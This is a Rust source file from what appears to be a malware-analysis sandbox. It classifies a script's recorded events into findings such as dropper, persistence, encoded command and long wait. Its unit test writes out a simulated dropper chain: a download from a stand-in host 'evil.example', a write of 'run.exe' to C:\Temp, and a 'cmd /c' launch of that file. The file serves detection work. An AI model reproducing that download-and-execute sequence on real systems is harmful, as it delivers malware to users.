//! What is to be said of what a script did. By its events alone: of a script that took its cell down with it, no more is there.

use postern_model::sandbox::{Action, Event, FindingName};

use super::host::{BY_COMMAND, OF_COMMAND};
use super::script::Surroundings;

/// Of what was seen many times, so many are told.
pub const TOLD: usize = 4;
/// Waits that are worth a word, all of them together, in milliseconds.
const LONG_WAIT: u64 = 20_000;
/// A layer shorter than this says nothing: libraries ask for their global object by one.
pub const LAYER_LEAST: usize = 200;

/// The findings of one script's events.
pub fn of(events: &[Event]) -> Vec<(FindingName, String)> {
    let is_page = events.iter().any(|e| e.action == Action::Begin && e.detail == Surroundings::Page.name());
    let mut found: Vec<(FindingName, String)> = Vec::new();
    let mut told = std::collections::BTreeMap::new();
    for event in events {
        let Some(name) = name(event, is_page) else { continue };
        let count = told.entry(name).or_insert(0);
        if *count < TOLD && !found.iter().any(|(known, text)| *known == name && *text == event.text) {
            *count += 1;
            found.push((name, event.text.clone()));
        }
    }
    let paths = || events.iter().filter(|e| e.action == Action::Write).map(|e| e.text.as_str());
    let commands = || events.iter().filter(|e| e.action == Action::Start).map(|e| e.text.as_str());
    if let Some(dropped) = paths().find(|path| commands().any(|command| starts(command, path))) {
        found.push((FindingName::ScriptDropper, dropped.to_owned()));
    }
    let waited: u64 = events.iter().filter(|e| e.action == Action::Wait).filter_map(waited).sum();
    if waited >= LONG_WAIT {
        found.push((FindingName::ScriptWaits, format!("{} s", waited / 1000)));
    }
    found
}

fn name(event: &Event, is_page: bool) -> Option<FindingName> {
    Some(match event.action {
        Action::Start => FindingName::ScriptStarts,
        Action::Load if event.detail == BY_COMMAND => FindingName::CommandLoads,
        Action::Load if is_page => FindingName::HtmlLoads,
        Action::Load => FindingName::ScriptLoads,
        Action::Write => FindingName::ScriptWrites,
        Action::Persist => FindingName::ScriptPersists,
        Action::Go => FindingName::HtmlRedirect,
        Action::HandOver => FindingName::HtmlHandOver,
        Action::Decoded if event.detail == OF_COMMAND => FindingName::CommandEncoded,
        Action::Layer if event.text.len() >= LAYER_LEAST => FindingName::ScriptLayers,
        Action::Stopped => FindingName::ScriptStopped,
        _ => return None,
    })
}

fn waited(event: &Event) -> Option<u64> {
    let time: u64 = event.text.strip_suffix(" ms")?.parse().ok()?;
    Some(time.saturating_mul(u64::from(event.times)))
}

/// Whether a command starts what was written to the path.
fn starts(command: &str, path: &str) -> bool {
    let file = path.rsplit(['\\', '/']).next().unwrap_or_default().to_ascii_lowercase();
    file.len() >= 3 && command.to_ascii_lowercase().contains(&file)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(action: Action, text: &str, detail: &str) -> Event {
        Event::new(0, 0, action, text, detail)
    }

    #[test]
    fn a_dropper_by_its_events() {
        let events = [
            event(Action::Begin, "a.js", "Windows"),
            event(Action::Wait, "60000 ms", "skipped"),
            event(Action::Load, "GET http://evil.example/x", "MSXML2.XMLHTTP"),
            event(Action::Write, "C:\\Temp\\run.exe", "what was loaded"),
            event(Action::Start, "cmd /c \"c:\\temp\\RUN.EXE\"", "WScript.Shell.Run"),
        ];
        let names: Vec<_> = of(&events).iter().map(|(name, _)| name.name()).collect();
        assert_eq!(names, ["SCRIPT_LOADS", "SCRIPT_WRITES", "SCRIPT_STARTS", "SCRIPT_DROPPER", "SCRIPT_WAITS"]);
    }

    #[test]
    fn the_same_many_times_is_told_some_times() {
        let events: Vec<Event> = (0..50).map(|n| event(Action::Load, &format!("GET http://{n}.example/"), "x")).collect();
        assert_eq!(of(&events).len(), TOLD);
    }
}
